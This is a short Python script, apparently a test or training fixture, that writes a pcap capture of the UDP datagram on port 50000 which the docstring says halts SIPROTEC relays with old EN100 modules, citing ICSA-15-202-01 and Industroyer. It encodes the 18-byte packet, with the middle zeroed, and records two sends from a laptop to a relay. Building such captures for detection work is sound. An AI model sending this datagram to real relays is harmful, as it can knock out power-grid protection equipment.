"""Writes a capture of the datagram that halts SIPROTEC relays with an old EN100 module.

    python generate.py

18 bytes on UDP port 50000, as ICSA-15-202-01 and the public analyses of Industroyer describe them;
what is in the middle of them is zero here.
"""

import sys
from pathlib import Path

HERE = Path(__file__).parent
sys.path.insert(0, str(HERE.parent / "modbus"))

from tape import START, Host, Tape  # noqa: E402 - it lies beside this folder

SECOND = 1_000_000  # microseconds, as all times on a tape
LAPTOP = Host("laptop", "00:15:5d:10:00:63", "192.168.60.99")
RELAY = Host("relay", "00:1c:06:10:00:31", "192.168.60.31")
PORT = 50_000
HALT = bytes.fromhex("1149") + bytes(14) + bytes.fromhex("289e")


def main() -> None:
    """Write the capture."""
    tape = Tape()
    for at in range(2):
        tape.datagram(START + at * SECOND, LAPTOP, RELAY, (51_000, PORT), HALT)
    tape.write(HERE / "halted.pcap")


if __name__ == "__main__":
    main()
